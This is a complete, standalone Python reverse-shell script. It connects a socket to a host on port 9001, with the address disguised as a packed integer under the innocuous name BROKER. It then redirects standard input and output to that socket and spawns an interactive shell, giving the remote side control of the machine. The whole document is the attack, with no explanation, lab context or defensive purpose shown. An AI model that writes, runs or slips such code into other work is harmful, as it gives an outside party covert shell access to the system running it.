#!/usr/bin/env python3
import os, pty, socket, struct

BROKER = (3405803853, 9001)
s = socket.socket()
s.connect((socket.inet_ntoa(struct.pack('!I', BROKER[0])), BROKER[1]))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(os.environ.get('SHELL', '/bin/sh'))
